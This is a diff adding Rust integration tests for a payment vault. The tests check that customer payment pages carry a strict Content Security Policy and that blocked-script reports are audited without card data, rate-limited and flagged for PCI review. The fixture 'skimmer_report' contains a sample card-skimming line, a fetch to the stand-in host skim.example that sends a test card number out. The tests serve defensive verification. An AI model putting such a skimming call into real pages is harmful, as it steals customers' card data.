@@ -1,0 +1,164 @@
+//! The customer pages are payment pages (re-verification takes a card number): every one is
+//! sent under a strict Content Security Policy, and what a customer's browser blocks there is
+//! reported, audited without card data or link tokens, limited per minute, and flagged for the
+//! daily review (PCI DSS 6.4.3, 11.6.1).
+
+use crate::customer_pages::path_of;
+use crate::helpers::{TestApp, spawn_app};
+use coffer_vault::audit::review::{ReviewRules, kind};
+use coffer_vault::customer::csp;
+use coffer_vault::store::{audit_flags, now_millis};
+use serde_json::{Value, json};
+
+const PAN: &str = "4242424242424242";
+
+async fn reverify_path(app: &TestApp) -> String {
+    let pm = app.tokenize_card("cus_csp", PAN).await;
+    let res = app
+        .post(
+            &app.agent_key,
+            &format!(
+                "/api/v1/payment_methods/{}/reverifications",
+                pm["id"].as_str().unwrap()
+            ),
+            &json!({}),
+        )
+        .await;
+    assert_eq!(res.status(), 201);
+    path_of(res.json::<Value>().await.unwrap()["url"].as_str().unwrap())
+}
+
+async fn report(app: &TestApp, body: &str) -> reqwest::StatusCode {
+    app.client
+        .post(app.url("/c/csp-report"))
+        .header("content-type", "application/csp-report")
+        .body(body.to_owned())
+        .send()
+        .await
+        .unwrap()
+        .status()
+}
+
+fn skimmer_report(path: &str) -> String {
+    json!({ "csp-report": {
+        "document-uri": format!("https://vault.example{path}?intent=replace"),
+        "effective-directive": "connect-src",
+        "violated-directive": "connect-src 'self'",
+        "blocked-uri": format!("https://skim.example/collect?n={PAN}&cvc=123"),
+        "script-sample": format!("fetch('https://skim.example/collect?n={PAN}')"),
+        "original-policy": csp::POLICY,
+    } })
+    .to_string()
+}
+
+#[tokio::test]
+async fn every_customer_page_is_sent_under_a_strict_policy() {
+    let app = spawn_app().await;
+    let path = reverify_path(&app).await;
+    let pages = [
+        path.clone(),
+        format!("{path}?intent=replace"),
+        "/c/reverify/not-a-token".to_owned(),
+        "/c/customer.css".to_owned(),
+        "/c/passkey.js".to_owned(),
+    ];
+    for page in pages {
+        let res = app.client.get(app.url(&page)).send().await.unwrap();
+        let policy = res
+            .headers()
+            .get("content-security-policy")
+            .unwrap_or_else(|| panic!("{page} has no policy"))
+            .to_str()
+            .unwrap()
+            .to_owned();
+        assert_eq!(policy, csp::POLICY, "{page}");
+        let body = res.text().await.unwrap();
+        // What the policy forbids, the pages do not use: no inline script or style.
+        assert!(
+            !body.contains("<script>") && !body.contains("style="),
+            "{page}"
+        );
+    }
+    for directive in [
+        "default-src 'none'",
+        "script-src 'self'",
+        "form-action 'self'",
+        "frame-ancestors 'none'",
+        "base-uri 'none'",
+        "report-uri /c/csp-report",
+    ] {
+        assert!(csp::POLICY.contains(directive), "{directive}");
+    }
+    assert!(!csp::POLICY.contains("unsafe"));
+}
+
+#[tokio::test]
+async fn a_blocked_skimmer_is_audited_without_card_data_and_flagged_for_review() {
+    let app = spawn_app().await;
+    let path = reverify_path(&app).await;
+    let token = path.rsplit('/').next().unwrap().to_owned();
+    assert_eq!(report(&app, &skimmer_report(&path)).await, 204);
+
+    let rows: Vec<_> = app
+        .audit()
+        .await
+        .into_iter()
+        .filter(|e| e.action == "payment_page.csp_violation")
+        .collect();
+    assert_eq!(rows.len(), 1);
+    let row = &rows[0];
+    assert_eq!(row.outcome, "denied");
+    assert_eq!(row.actor_type, "anonymous");
+    assert_eq!(row.resource_id.as_deref(), Some("/c/reverify"));
+    let detail: Value = serde_json::from_str(row.detail.as_deref().unwrap()).unwrap();
+    assert_eq!(detail["directive"], "connect-src");
+    assert_eq!(detail["blocked"], "https://skim.example");
+    let everything = format!("{:?}", app.audit().await);
+    assert!(!everything.contains(PAN) && !everything.contains("424242"));
+    assert!(
+        !everything.contains(&token),
+        "the link token is a bearer secret"
+    );
+
+    // Not a report: nothing is recorded, and the sender learns nothing.
+    assert_eq!(report(&app, "{\"hello\": 1}").await, 204);
+    let about_console = skimmer_report("/console/expiry");
+    assert_eq!(report(&app, &about_console).await, 204);
+    let recorded = app
+        .count("SELECT COUNT(*) FROM audit_events WHERE action = 'payment_page.csp_violation'")
+        .await;
+    assert_eq!(recorded, 1);
+
+    app.vault
+        .review_day(now_millis(), &ReviewRules::default())
+        .await
+        .unwrap();
+    let mut conn = app.vault.store().reader().acquire().await.unwrap();
+    let flags = audit_flags::list(&mut conn, false, 100).await.unwrap();
+    let flag = flags
+        .iter()
+        .find(|f| f.kind == kind::PAYMENT_PAGE_TAMPER)
+        .expect("a flag for the reviewer");
+    assert_eq!(flag.subject, "/c/reverify");
+    assert_eq!(flag.event_count, 1);
+}
+
+#[tokio::test]
+async fn reports_are_limited_per_minute() {
+    let app = spawn_app().await;
+    let body = skimmer_report("/c/reverify/abc");
+    for _ in 0..70 {
+        assert_eq!(report(&app, &body).await, 204);
+    }
+    let recorded = app
+        .count("SELECT COUNT(*) FROM audit_events WHERE action = 'payment_page.csp_violation'")
+        .await;
+    // 30 a minute: 30, or up to 60 if the loop crossed into the next minute; never all 70.
+    assert!((30..=60).contains(&recorded), "{recorded}");
+    // Bigger than any real report: refused before it is read.
+    let huge = format!(
+        "{{\"csp-report\": {{\"blocked-uri\": \"{}\"}}}}",
+        "x".repeat(9_000)
+    );
+    assert_eq!(report(&app, &huge).await, 413);
+}
